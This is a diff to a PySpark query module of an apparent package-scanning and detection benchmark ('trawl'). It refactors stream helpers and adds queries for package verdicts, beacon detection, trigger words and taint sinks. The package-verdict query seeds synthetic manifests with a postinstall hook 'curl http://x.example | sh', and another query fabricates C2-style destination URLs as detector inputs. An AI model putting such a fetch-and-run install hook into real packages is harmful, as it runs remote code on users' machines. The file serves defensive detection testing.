@@ -11,11 +11,11 @@ from pyspark.sql import functions as F
 from trawl.functions import rules
 from trawl.functions.identity import tier_of
 from trawl.functions.text import decode_layers, families, hit, host_port, invisible_count, is_printable
-from trawl.operators import corpus, dynamic, evaluate, fusion, static, taint
+from trawl.operators import corpus, dynamic, evaluate, fusion, runtime, shapes, static, taint
 from trawl.plans import fixtures as fx
 from trawl.plans.fixtures import read
 from trawl.schemas import RESULTS
-from trawl.streaming.ingest import append_results, read_stream
+from trawl.streaming.ingest import append_results, first_seen, keep_current, read_current, read_stream, running_counts
 
 Query = Callable[[SparkSession, str], DataFrame]
 QUERIES: dict[str, Query] = {}
@@ -277,27 +277,83 @@ def files_budget(spark, sf):
 @query
 def streaming_ingest(spark, sf):
     """The event log through a stream, file by file, and what the sink then holds."""
-    path = f"{sf}/events.parquet"
-    folder = f"{spark.conf.get('spark.checkpoint.dir', '') or spark.sparkContext.getCheckpointDir() or scratch(spark)}/stream-{uuid.uuid4().hex}"
-    schema = spark.read.parquet(path).schema
-    stream = read_stream(spark, sf, schema, pathGlobFilter="events.parquet")
+    folder, stream = event_stream(spark, sf)
     append_results(stream, lambda batch: batch.groupBy("event_type", F.date_format("ts", "yyyy-MM-dd").alias("day")).agg(F.count("*").alias("n")), f"{folder}/rows", f"{folder}/progress").awaitTermination()
     return spark.read.parquet(f"{folder}/rows").groupBy("event_type", "day").agg(F.sum("n").alias("n"))
 
 
+def event_stream(spark: SparkSession, sf: str) -> tuple[str, DataFrame]:
+    """A new folder in the shared one, and the events as a stream."""
+    folder = f"{spark.conf.get('spark.checkpoint.dir', '') or spark.sparkContext.getCheckpointDir() or scratch(spark)}/stream-{uuid.uuid4().hex}"
+    return folder, read_stream(spark, sf, spark.read.parquet(f"{sf}/events.parquet").schema, pathGlobFilter="events.parquet")
+
+
 def scratch(spark: SparkSession) -> str:
     """Only where the cluster names no shared folder, as in tests."""
     import tempfile
 
+    if not spark.sparkContext.master.startswith("local["):
+        raise ValueError("spark.checkpoint.dir names no folder that driver and executors share")
     spark.sparkContext.setCheckpointDir(tempfile.mkdtemp(prefix="trawl-"))
     return spark.sparkContext.getCheckpointDir()
 
 
 @query
 def streaming_counts(spark, sf):
-    """The batch twin of the windowed stream aggregation."""
-    e = read(spark, sf, "events")
-    return e.groupBy(F.window(F.col("ts").cast("timestamp"), "1 day").alias("w"), "event_type").agg(F.count("*").alias("n")).select(F.date_format("w.start", "yyyy-MM-dd").alias("day"), "event_type", "n")
+    """The windowed counts of the event stream, as they stand at its end."""
+    folder, stream = event_stream(spark, sf)
+    keep_current(running_counts(stream, "ts", "1 day", "2 days", "event_type"), f"{folder}/counts", f"{folder}/progress").awaitTermination()
+    return read_current(spark, f"{folder}/counts").select(F.date_format("window_start", "yyyy-MM-dd").alias("day"), "event_type", "n")
+
+
+@query
+def streaming_first_seen(spark, sf):
+    """Users of the event stream, each passed on once."""
+    folder, stream = event_stream(spark, sf)
+    append_results(first_seen(stream, "user_id", "ts", "400 days").select("user_id"), lambda batch: batch, f"{folder}/rows", f"{folder}/progress").awaitTermination()
+    return spark.read.parquet(f"{folder}/rows").select("user_id")
+
+
+@query
+def shape_scan(spark, sf):
+    return shapes.shape_findings(fx.scripts(spark, sf)).select(F.col("sample_key").alias("doc_id"), F.col("reason").alias("rule"), "points", "tier")
+
+
+@query
+def package_verdict(spark, sf):
+    """Text rules, call shapes, invisible code points and the manifest of a package in one verdict."""
+    n = F.col("doc_id")
+    manifests = read(spark, sf, "documents").select(
+        n.alias("sample_key"), F.lit("p").alias("name"), F.lit("p").alias("displayName"), F.lit("").alias("description"), F.lit("").alias("main"), F.array(F.lit("onStartup")).alias("activationEvents"),
+        F.when(n % 10 == 0, F.create_map(F.lit("postinstall"), F.lit("curl http://x.example | sh"))).otherwise(F.create_map(F.lit("test"), F.lit("curl"))).alias("scripts"),
+    )
+    files = fx.files(spark, sf).unionByName(fx.scripts(spark, sf))
+    return static.static_verdict(static.package_findings(files, manifests, fx.PACK)).select(F.col("sample_key").alias("doc_id"), "primary_score", "support_score", "score", "verdict")
+
+
+@query
+def running_ids(spark, sf):
+    events = read(spark, sf, "events").select(F.col("user_id").alias("sample_key"), "event_id")
+    return runtime.numbered(events, ["event_id"], "n").select(F.col("sample_key").alias("user_id"), "event_id", "n")
+
+
+@query
+def beacon_projection(spark, sf):
+    talks = read(spark, sf, "conversations")
+    host = F.concat(F.lit("https://u@Host"), (F.col("conv_id") % 5).cast("string"), F.lit(".example:8443/c2?q"))
+    calls = talks.select(F.col("conv_id").alias("sample_key"), (F.col("turn") * 10).alias("elapsed_ms"), F.col("turn").alias("call_id"), F.when(F.col("turn") % 2 == 0, "https").alias("transport"), host.alias("destination"), F.lit(None).cast("string").alias("host"), F.lit(None).cast("string").alias("method"), F.create_map(F.lit("role"), "role").alias("headers"), F.col("text").alias("body"))
+    return runtime.beacons(calls).select(F.col("sample_key").alias("conv_id"), "seq", "transport", "host", "body_bytes", F.length("body").alias("shown"), F.col("headers")["role"].alias("role"))
+
+
+@query
+def trigger_words(spark, sf):
+    gate = F.concat(F.lit("switch (x) { case '"), F.initcap("lang"), F.lit("': if (s.includes(\""), F.col("source"), F.lit("\")) y === '"), F.col("lang"), F.lit("' }\n"), F.col("text"))
+    return read(spark, sf, "documents").select("doc_id", F.array_join(shapes.trigger_keywords(gate), ",").alias("words"), shapes.is_module_source(F.concat(F.when(F.col("doc_id") % 3 == 0, "import x from 'y'\n").otherwise("const x = 1\n"), F.col("text"))).alias("module"))
+
+
+@query
+def taint_sinks(spark, sf):
+    return runtime.sinks(fx.event_log(spark, sf)).groupBy("destination", "payload").agg(F.count("*").alias("n"))
 
 
 @query
